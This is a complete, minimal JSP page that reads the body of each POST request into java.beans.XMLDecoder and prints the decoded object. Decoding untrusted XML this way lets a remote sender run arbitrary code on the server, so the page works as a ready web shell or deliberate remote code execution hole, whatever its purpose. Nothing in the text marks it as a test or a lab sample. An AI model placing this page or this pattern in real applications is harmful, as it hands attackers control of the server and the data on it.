<%@ page import="java.beans.XMLDecoder" %>
<%
  if ("POST".equals(request.getMethod())) {
    Object o = new XMLDecoder(request.getInputStream()).readObject();
    out.print(o);
  }
%>
